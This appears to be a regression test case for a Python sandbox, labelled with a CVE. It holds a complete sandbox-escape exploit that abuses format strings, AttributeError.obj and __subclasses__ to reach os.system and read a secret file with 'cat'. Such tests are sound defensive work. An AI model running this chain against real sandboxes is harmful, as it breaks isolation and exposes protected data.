# CVE-2024-47532: AttributeError.obj hands out the object on which a formatter failed.
# effect: run
import string
try:
    string.Formatter().format("{0.__class__.__base__.missing}", ())
except AttributeError as error:
    kinds = getattr(error.obj, "__subclasses__")()
    [k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
